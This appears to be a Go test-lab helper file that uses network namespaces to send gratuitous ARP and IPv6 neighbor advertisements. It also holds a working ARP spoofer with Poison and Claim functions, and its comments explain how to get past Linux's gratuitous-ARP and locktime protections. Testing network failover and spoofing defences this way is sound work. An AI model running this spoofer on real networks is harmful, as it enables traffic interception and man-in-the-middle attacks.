package lab

import (
	"fmt"
	"net"
	"net/netip"
	"sync"

	"github.com/mdlayher/arp"
	"github.com/mdlayher/ethernet"
	"github.com/mdlayher/ndp"
	"github.com/mdlayher/packet"
	"golang.org/x/sys/unix"
)

// AnnounceARP sends count gratuitous ARP requests (sender and target IP
// both ip, sender MAC mac) to broadcast from dev in the namespace: what a
// host that moved to mac says to its segment.
func (n NS) AnnounceARP(dev string, ip netip.Addr, mac net.HardwareAddr, count int) error {
	return n.Do(func() error {
		ifi, err := net.InterfaceByName(dev)
		if err != nil {
			return err
		}
		conn, err := packet.Listen(ifi, packet.Raw, unix.ETH_P_ARP, nil)
		if err != nil {
			return fmt.Errorf("open ARP socket on %s: %w", dev, err)
		}
		defer conn.Close()
		p, err := arp.NewPacket(arp.OperationRequest, mac, ip, ethernet.Broadcast, ip)
		if err != nil {
			return err
		}
		pb, err := p.MarshalBinary()
		if err != nil {
			return err
		}
		f, err := (&ethernet.Frame{Destination: ethernet.Broadcast, Source: mac, EtherType: ethernet.EtherTypeARP, Payload: pb}).MarshalBinary()
		if err != nil {
			return err
		}
		for range count {
			if _, err := conn.WriteTo(f, &packet.Addr{HardwareAddr: ethernet.Broadcast}); err != nil {
				return fmt.Errorf("send gratuitous ARP on %s: %w", dev, err)
			}
		}
		return nil
	})
}

// AnnounceNDP sends an unsolicited Neighbor Advertisement (override, ip at
// mac) to all nodes from dev in the namespace: IPv6's gratuitous ARP.
func (n NS) AnnounceNDP(dev string, ip netip.Addr, mac net.HardwareAddr) error {
	return n.Do(func() error {
		ifi, err := net.InterfaceByName(dev)
		if err != nil {
			return err
		}
		// A unique local source: the link-local address may still be
		// tentative on a new interface.
		c, _, err := ndp.Listen(ifi, ndp.UniqueLocal)
		if err != nil {
			return fmt.Errorf("open NDP socket on %s: %w", dev, err)
		}
		defer c.Close()
		na := &ndp.NeighborAdvertisement{Override: true, TargetAddress: ip,
			Options: []ndp.Option{&ndp.LinkLayerAddress{Direction: ndp.Target, Addr: mac}}}
		return c.WriteTo(na, nil, netip.MustParseAddr("ff02::1").WithZone(dev))
	})
}

// Spoofer is an ARP spoofer running in a namespace: it claims an IP that
// is not its own for its interface's MAC.
type Spoofer struct {
	conn    *packet.Conn
	mac     net.HardwareAddr
	ip      netip.Addr
	done    chan struct{}
	mu      sync.Mutex
	answers int
}

// Spoof starts a spoofer on dev in the namespace that answers every ARP
// request for ip with dev's MAC, as fast as it can, until Stop.
func (n NS) Spoof(dev string, ip netip.Addr) (*Spoofer, error) {
	var s *Spoofer
	err := n.Do(func() error {
		ifi, err := net.InterfaceByName(dev)
		if err != nil {
			return err
		}
		conn, err := packet.Listen(ifi, packet.Raw, unix.ETH_P_ARP, nil)
		if err != nil {
			return fmt.Errorf("open ARP socket on %s: %w", dev, err)
		}
		s = &Spoofer{conn: conn, mac: ifi.HardwareAddr, ip: ip, done: make(chan struct{})}
		return nil
	})
	if err != nil {
		return nil, err
	}
	go s.answer()
	return s, nil
}

// MAC is the MAC the spoofer claims the IP for.
func (s *Spoofer) MAC() net.HardwareAddr { return s.mac }

func (s *Spoofer) send(op arp.Operation, dstMAC net.HardwareAddr, dstIP netip.Addr) error {
	p, err := arp.NewPacket(op, s.mac, s.ip, dstMAC, dstIP)
	if err != nil {
		return err
	}
	pb, err := p.MarshalBinary()
	if err != nil {
		return err
	}
	f, err := (&ethernet.Frame{Destination: dstMAC, Source: s.mac, EtherType: ethernet.EtherTypeARP, Payload: pb}).MarshalBinary()
	if err != nil {
		return err
	}
	_, err = s.conn.WriteTo(f, &packet.Addr{HardwareAddr: dstMAC})
	return err
}

// Poison sends one ARP request for toIP, to toMAC, that says the spoofed
// IP is at the spoofer's MAC. A request to one of the
// receiver's own addresses is not gratuitous: Linux takes the sender's
// address into an existing entry whatever drop_gratuitous_arp says.
func (s *Spoofer) Poison(toMAC net.HardwareAddr, toIP netip.Addr) error {
	return s.send(arp.OperationRequest, toMAC, toIP)
}

// Claim sends one unsolicited ARP reply to toMAC (toIP) that says the
// spoofed IP is at the spoofer's MAC, as an ARP hijacker does. Linux
// takes it into an existing entry once the entry's locktime (1 s) has
// passed since its last update.
func (s *Spoofer) Claim(toMAC net.HardwareAddr, toIP netip.Addr) error {
	return s.send(arp.OperationReply, toMAC, toIP)
}

func (s *Spoofer) answer() {
	defer close(s.done)
	buf := make([]byte, 1500)
	for {
		n, _, err := s.conn.ReadFrom(buf)
		if err != nil {
			return
		}
		var f ethernet.Frame
		if f.UnmarshalBinary(buf[:n]) != nil || f.EtherType != ethernet.EtherTypeARP {
			continue
		}
		var p arp.Packet
		if p.UnmarshalBinary(f.Payload) != nil || p.Operation != arp.OperationRequest || p.TargetIP != s.ip || p.SenderIP == s.ip {
			continue
		}
		if s.send(arp.OperationReply, p.SenderHardwareAddr, p.SenderIP) == nil {
			s.mu.Lock()
			s.answers++
			s.mu.Unlock()
		}
	}
}

// Stop stops the spoofer and returns how many requests it answered.
func (s *Spoofer) Stop() int {
	s.conn.Close()
	<-s.done
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.answers
}
